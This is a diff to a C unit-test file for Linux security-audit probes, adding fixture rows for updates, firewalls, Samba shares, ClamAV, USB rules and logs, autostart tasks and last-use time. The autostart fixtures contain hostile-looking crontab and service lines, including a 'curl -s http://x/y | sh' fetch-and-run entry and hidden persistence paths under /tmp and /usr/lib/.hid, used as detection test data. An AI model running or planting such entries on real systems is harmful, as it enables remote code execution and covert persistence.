@@ -4,7 +4,7 @@
  * text" are the files of a pack, "+name" the names of a list. */
 #include "tests/unit/scanners/probes/harness.h"
 
-#define PLACES 6
+#define PLACES 8
 
 struct row {
 	const char *probe, *place[PLACES];
@@ -14,13 +14,15 @@ struct row {
 
 static struct bytes copy(struct visit *v, struct str *s)
 {
-	struct bytes b = bytes_of(arena_strndup(&v->arena, str_c(s), s->len), s->len);
+	size_t n = s->len;
+	void *p = arena_alloc(&v->arena, n);
 
+	memcpy(p, str_c(s), n);
 	str_done(s);
-	return b;
+	return bytes_of(p, n);
 }
 
-/* "=a one\n=b two" becomes a pack of two files, their lines parted by '|'; "+a +b" a list of links. */
+/* "=a one\n=b two" becomes a pack of two files, their lines parted by '~'; "+a +b" a list of links. */
 static struct bytes pack_of(struct visit *v, const char *text)
 {
 	struct str s = STR_INIT(1 << 20);
@@ -30,7 +32,7 @@ static struct bytes pack_of(struct visit *v, const char *text)
 		char *body = arena_strndup(&v->arena, text + name + (n > 0), n ? n - 1 : 0);
 
 		for (char *c = body; *c; c++)
-			*c = *c == '|' ? '\n' : *c;
+			*c = *c == '~' ? '\n' : *c;
 		str_addf(&s, "w %zu 1763600000 %zu %.*s\n%s", strlen(body), strlen(body), (int)name,
 			 text, body);
 		text += name + n + (text[name + n] == '\n');
@@ -70,6 +72,18 @@ static void put(struct visit *v, size_t i, const char *text)
 #define A      FACT_KIND_LINUX_ACCOUNT
 #define S      FACT_KIND_LINUX_SUDO
 #define R      FACT_KIND_LINUX_REMOTE
+#define U      FACT_KIND_LINUX_UPDATE
+#define P      FACT_KIND_LINUX_UPDATE_POLICY
+#define W      FACT_KIND_LINUX_FIREWALL
+#define SHARES FACT_KIND_SHARE
+#define V      FACT_KIND_ANTIVIRUS
+#define RULES  FACT_KIND_LINUX_USB_POLICY
+#define USB    FACT_KIND_USB_STORAGE
+#define LOG    FACT_KIND_DEVICE_LOG
+#define TASK   FACT_KIND_SCHEDULED_TASK
+#define JST    "TZif2...\nJST-9\n"
+#define OWN    "storage_off=no uas_off=no"
+#define CLAM   "ClamAV-VDB:20 Nov 2026 08-12 +0000:27500:2000000:90:x:x:builder:1"
 
 static const struct row rows[] = {
 	/* user names */
@@ -136,7 +150,7 @@ static const struct row rows[] = {
 	{ "linux-remote",
 	  { "Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication yes\nUsePAM yes\n"
 	    "KbdInteractiveAuthentication no\nPermitRootLogin=yes\n",
-	    "=b.conf PasswordAuthentication yes\n=a.conf passwordauthentication no|PermitRootLogin "
+	    "=b.conf PasswordAuthentication yes\n=a.conf passwordauthentication no~PermitRootLogin "
 	    "no",
 	    "x", "+cron.service", "+ssh.socket" },
 	  R,
@@ -159,6 +173,185 @@ static const struct row rows[] = {
 	  R,
 	  "partial\n installed=yes root=keys passwords=yes empty_passwords=no exceptions=no\n" },
 	{ "linux-remote", { "!", NULL, "x", "+ssh.service" }, R, "failed\n" },
+	/* updates */
+	{ "linux-updates",
+	  { "=var/log/apt/history.log Start-Date: 2026-11-10  01:00:00~Upgrade: "
+	    "x:amd64~End-Date: 2026-11-10  06:12:33~Start-Date: 2026-11-18  01:00:00~Install: "
+	    "y~End-Date: 2026-11-18  06:00:00~Start-Date: 2026-11-19  01:00:00~Upgrade: z",
+	    NULL, "=a/20auto-upgrades APT::Periodic::Unattended-Upgrade \"1\";", "x", NULL, NULL,
+	    NULL, JST },
+	  U,
+	  "collected\n method=apt at=2026-11-09T21:12:33Z\n" },
+	{ "linux-updates",
+	  { NULL, "=var/log/dnf.rpm.log 2026-11-01T09:12:33+0900 SUBDEBUG Upgrade: "
+		  "a~2026-11-02T09:12:33Z SUBDEBUG Installed: b" },
+	  U,
+	  "collected\n method=dnf at=2026-11-01T00:12:33Z\n" },
+	{ "linux-updates", { NULL }, U, "failed\n" },
+	{ "linux-updates", { "=var/log/apt/history.log nothing" }, U, "collected\n" },
+	{ "linux-updates", { "!" }, U, "failed\n" },
+	{ "linux-updates",
+	  { NULL, NULL, "=a/20 APT::Periodic::Unattended-Upgrade \"1\";", "x",
+	    "+apt-daily-upgrade.timer" },
+	  P,
+	  "collected\n method=apt on=yes blocked=yes\n" },
+	{ "linux-updates",
+	  { NULL, NULL,
+	    "=a/20 APT { Periodic { Unattended-Upgrade \"1\"; }; };\n"
+	    "=a/50 Unattended-Upgrade::Mail \"x\";~// Unattended-Upgrade \"0\";",
+	    "x" },
+	  P,
+	  "collected\n method=apt on=yes blocked=no\n" },
+	{ "linux-updates",
+	  { NULL, NULL,
+	    "=a/20 APT::Periodic::Unattended-Upgrade \"1\";\n=a/99 "
+	    "APT::Periodic::Unattended-Upgrade \"0\";",
+	    "x" },
+	  P,
+	  "collected\n method=apt on=no blocked=no\n" },
+	{ "linux-updates",
+	  { NULL, NULL, NULL, NULL, NULL, "apply_updates = yes\n", "+dnf-automatic.timer" },
+	  P,
+	  "collected\n method=dnf on=yes\n" },
+	{ "linux-updates",
+	  { NULL, NULL, NULL, NULL, NULL, "apply_updates = yes\n" },
+	  P,
+	  "collected\n method=dnf on=no\n" },
+	{ "linux-updates", { NULL }, P, "failed\n" },
+	{ "linux-updates", { NULL, NULL, "!" }, P, "failed\n" },
+	/* firewalls */
+	{ "linux-firewall",
+	  { "ENABLED=yes\n", NULL, NULL, NULL, NULL, NULL, "+ufw.service" },
+	  W,
+	  "collected\n method=ufw enabled=yes\n" },
+	{ "linux-firewall",
+	  { "ENABLED=no\n", NULL, NULL, NULL, NULL, NULL, "+ufw.service" },
+	  W,
+	  "collected\n method=ufw enabled=no\n" },
+	{ "linux-firewall",
+	  { NULL, "chain input {\n# drop\n}\n", NULL, NULL, NULL, NULL, "+nftables.service" },
+	  W,
+	  "collected\n method=nftables enabled=no\n" },
+	{ "linux-firewall",
+	  { NULL, "include \"/etc/nftables/*.nft\"\n", NULL, "=a.nft policy drop;", NULL, NULL,
+	    NULL, "+nftables.service" },
+	  W,
+	  "collected\n method=nftables enabled=yes\n" },
+	{ "linux-firewall",
+	  { NULL, NULL, NULL, NULL, "DefaultZone=trusted\n", ":INPUT DROP [0:0]\n",
+	    "+firewalld.service +netfilter-persistent.service" },
+	  W,
+	  "collected\n method=firewalld enabled=no\n method=iptables enabled=yes\n" },
+	{ "linux-firewall", { NULL }, W, "collected\n" },
+	{ "linux-firewall", { NULL, NULL, NULL, NULL, NULL, NULL, "!" }, W, "failed\n" },
+	/* shared folders */
+	{ "linux-shares",
+	  { "[global]\nguest ok = yes\n[data]\npath = /srv/data\nread only = no\n[in]\npublic = "
+	    "no\npath=/home/in\n; [x]\n[printers]\nprintable = yes\n" },
+	  SHARES,
+	  "collected\n name=data path=/srv/data area=folder everyone=write\n"
+	  " name=in path=/home/in area=users everyone=none\n"
+	  " name=printers area=printer everyone=read\n" },
+	{ "linux-shares",
+	  { NULL, "=u/photos path=/home/a/photos~usershare_acl=S-1-1-0:F,~guest_ok=y" },
+	  SHARES,
+	  "collected\n name=photos path=/home/a/photos area=users everyone=write\n" },
+	{ "linux-shares", { "include = /etc/samba/more.conf\n" }, SHARES, "failed\n" },
+	{ "linux-shares", { NULL }, SHARES, "collected\n" },
+	{ "linux-shares", { "!" }, SHARES, "failed\n" },
+	/* virus protection */
+	{ "linux-clamav",
+	  { "=var/lib/clamav/daily.cld " CLAM, "+clamav-freshclam.service" },
+	  V,
+	  "collected\n name=ClamAV enabled=yes definitions=2026-11-20T00:00:00Z\n" },
+	{ "linux-clamav",
+	  { "=var/lib/clamav/daily.cvd junk\n=var/lib/clamav/main.cvd " CLAM },
+	  V,
+	  "collected\n name=ClamAV enabled=no\n" },
+	{ "linux-clamav", { NULL }, V, "collected\n" },
+	{ "linux-clamav", { "!" }, V, "failed\n" },
+	/* rules about USB */
+	{ "linux-usb-rules",
+	  { "=a.conf blacklist usb-storage~# blacklist uas" },
+	  RULES,
+	  "collected\n storage_off=yes uas_off=no udev_refuses=no\n" },
+	{ "linux-usb-rules",
+	  { "=a.conf install usb_storage /bin/false" },
+	  RULES,
+	  "collected\n storage_off=yes uas_off=yes udev_refuses=no\n" },
+	{ "linux-usb-rules",
+	  { NULL, "ImplicitPolicyTarget=block\n", "allow id 1d6b:0002\n# x\nreject\n", NULL, NULL,
+	    "+usbguard.service" },
+	  RULES,
+	  "collected\n " OWN " guard_starts=yes guard_others=block guard_rules=2 "
+	  "udev_refuses=no\n" },
+	{ "linux-usb-rules",
+	  { NULL, "ImplicitPolicyTarget=block\n", "allow\n" },
+	  RULES,
+	  "collected\n " OWN " guard_starts=no guard_others=allow guard_rules=1 "
+	  "udev_refuses=no\n" },
+	{ "linux-usb-rules",
+	  { NULL, NULL, NULL, "=a SUBSYSTEM==\"usb\", ATTR{authorized}=\"0\"" },
+	  RULES,
+	  "collected\n " OWN " udev_refuses=yes\n" },
+	{ "linux-usb-rules", { "!" }, RULES, "partial\n " OWN " udev_refuses=no\n" },
+	/* what was plugged in */
+	{ "linux-usb-log",
+	  { "=var/log/kern.log Nov 12 10:00:00 pc kernel: [ 1.0] usb 1-2: New USB device found, "
+	    "idVendor=0951~Nov 12 10:00:00 pc kernel: [ 1.0] usb 1-2: Product: Stick~Nov 12 "
+	    "10:00:00 "
+	    "pc kernel: [ 1.0] usb 1-2: Manufacturer: Kingston~Nov 12 10:00:00 pc kernel: [ 1.0] "
+	    "usb "
+	    "1-2: SerialNumber: 60A4~Nov 12 10:00:01 pc kernel: [ 1.0] usb-storage 1-2:1.0: USB "
+	    "Mass "
+	    "Storage device detected~Nov 18 10:00:00 pc kernel: [ 9.0] usb 1-3: New USB device "
+	    "found~Nov 18 10:00:00 pc kernel: [ 9.0] usb 1-3: Product: Mouse",
+	    "=var/log/syslog 2025-11-13T10:00:00.5+09:00 pc kernel: usb 2-1: New USB device "
+	    "found~2025-11-13T10:00:00+09:00 pc kernel: usb 2-1: SerialNumber: "
+	    "S2~2025-11-13T10:00:00+09:00 pc kernel: scsi host6: uas",
+	    NULL, NULL, JST },
+	  USB,
+	  "collected\n bus=usbstor vendor=Kingston product=Stick serial=60A4 own_serial=yes "
+	  "last_arrival=2025-11-12T01:00:00Z\n bus=uasp serial=S2 own_serial=yes "
+	  "last_arrival=2025-11-13T01:00:00Z\n" },
+	{ "linux-usb-log",
+	  { "=var/log/kern.log Dec  3 10:00:00 pc kernel: x" },
+	  LOG,
+	  "collected\n name=kern.log begins=2024-12-03T10:00:00Z cut=no\n" },
+	{ "linux-usb-log", { NULL, NULL, NULL, "x" }, USB, "failed\n" },
+	{ "linux-usb-log", { NULL }, USB, "failed\n" },
+	{ "linux-usb-log", { "!", "=var/log/syslog x" }, USB, "failed\n" },
+	/* what starts by itself */
+	{ "linux-starts",
+	  { "=etc/crontab SHELL=/bin/sh~17 * * * * root cd / && run-parts /etc/cron.hourly~@reboot "
+	    "root /tmp/.x/run >/dev/null",
+	    "=etc/cron.d/e */5 * * * * root /usr/bin/a >/tmp/log 2>&1",
+	    "=var/spool/cron/crontabs/yamada 0 1 * * * sh /var/tmp/b.sh\n"
+	    "=var/spool/cron/crontabs/z * * * * * curl -s http://x/y | sh" },
+	  TASK,
+	  "collected\n name=crontab command=cd area=system enabled=yes hidden=no file=yes\n"
+	  " name=crontab command=/tmp/.x/run area=temporary enabled=yes hidden=no file=yes\n"
+	  " name=e command=/usr/bin/a area=system enabled=yes hidden=no file=yes\n"
+	  " name=yamada command=/var/tmp/b.sh area=temporary enabled=yes hidden=no file=yes\n"
+	  " name=z command=curl area=public enabled=yes hidden=no file=yes\n" },
+	{ "linux-starts",
+	  { NULL, NULL, NULL, "=u/a.service [Service]~ExecStart=-/usr/lib/.hid/d --x",
+	    "=u/b.service ExecStart=/home/a/bin/b", "=u/c.desktop Exec=zoom %U",
+	    "=etc/rc.local #!/bin/sh~/usr/bin/ok~exit 0" },
+	  TASK,
+	  "collected\n name=a.service command=/usr/lib/.hid/d area=system enabled=yes hidden=yes "
+	  "file=yes\n name=b.service command=/home/a/bin/b area=user enabled=yes hidden=no "
+	  "file=yes\n name=c.desktop command=zoom area=system enabled=yes hidden=no file=yes\n"
+	  " name=rc.local command=/usr/bin/ok area=system enabled=yes hidden=no file=yes\n"
+	  " name=rc.local command=exit area=system enabled=yes hidden=no file=yes\n" },
+	{ "linux-starts", { NULL }, TASK, "collected\n" },
+	{ "linux-starts", { NULL, "!" }, TASK, "failed\n" },
+	/* name and last use */
+	{ "linux-last-use",
+	  { NULL, NULL, "denpyo-pc\n", JST },
+	  FACT_KIND_COMPUTER,
+	  "collected\n name=denpyo-pc zone_offset=32400\n" },
+	{ "linux-last-use", { NULL, "junk" }, FACT_KIND_LAST_USE, "failed\n" },
 };
 
 START_TEST(each_row)
@@ -176,6 +369,36 @@ START_TEST(each_row)
 }
 END_TEST
 
+/* The heads of journals and the records of starts know when the PC was in use. */
+START_TEST(last_use_stands_inside_of_files)
+{
+	uint8_t journal[256] = "LPKSHHRH", wtmp[2 * 384] = { 0 };
+	uint64_t micro = (uint64_t)1763600000 * 1000000;
+	uint32_t at = 1763610000;
+	struct str s = STR_INIT(1000);
+	struct visit v;
+
+	for (size_t i = 0; i < 8; i++)
+		journal[192 + i] = (uint8_t)(micro >> 8 * i);
+	str_addf(&s, "c 9000 - 256 a/system.journal\n");
+	str_addn(&s, (const char *)journal, sizeof(journal));
+	visit_init(&v);
+	visit_bytes(&v, 0, copy(&v, &s));
+	visit_run(&v, "linux-last-use");
+	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T00:53:20Z\n");
+	visit_done(&v);
+
+	wtmp[384] = 7;
+	for (size_t i = 0; i < 4; i++)
+		wtmp[384 + 340 + i] = (uint8_t)(at >> 8 * i);
+	visit_init(&v);
+	visit_bytes(&v, 1, bytes_of(wtmp, sizeof(wtmp)));
+	visit_run(&v, "linux-last-use");
+	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T03:40:00Z\n");
+	visit_done(&v);
+}
+END_TEST
+
 int main(void)
 {
 	Suite *s = suite_create("linux probes");
@@ -184,6 +407,7 @@ int main(void)
 	int bad;
 
 	tcase_add_loop_test(tc, each_row, 0, LEN(rows));
+	tcase_add_test(tc, last_use_stands_inside_of_files);
 	suite_add_tcase(s, tc);
 	r = srunner_create(s);
 	srunner_run_all(r, CK_NORMAL);
